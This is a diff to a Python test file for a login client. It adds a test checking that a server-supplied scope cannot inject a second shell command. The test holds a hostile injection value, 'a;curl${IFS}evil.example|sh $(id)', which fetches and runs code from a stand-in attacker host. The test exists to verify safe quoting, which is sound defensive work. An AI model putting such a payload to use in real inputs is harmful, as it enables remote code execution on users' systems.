@@ -1,6 +1,7 @@
 """Logins at servers: a person makes one, processes keep it valid, and no text has its tokens."""
 
 import os
+import shlex
 import subprocess
 import sys
 from collections.abc import AsyncIterator, Iterable
@@ -221,6 +222,21 @@ async def test_a_login_that_is_over_says_so_and_forgets_its_tokens(
     await make_login(server, file)
     assert (await client.post()).status_code == 200
     assert server.log.count("register") == 1
+
+
+async def test_a_scope_that_a_server_names_is_no_second_command_in_a_shell(
+    server: LoginServer, file: Path
+) -> None:
+    await make_login(server, file)
+    server.wanted_scope = "a;curl${IFS}evil.example|sh $(id)"
+    with pytest.raises(LoginError) as refused:
+        await Client(server, file).post()
+    _, line, _ = str(refused.value).split("`")
+    assert shlex.split(line)[4:] == [
+        *("--scope", "a;curl${IFS}evil.example|sh", "--scope", "$(id)")
+    ]
+    punctuated = shlex.shlex(line, posix=True, punctuation_chars=True)
+    assert not {";", "|", "("} & set(punctuated)
 
 
 async def test_a_call_that_needs_more_names_the_scope_and_the_next_login_has_both(
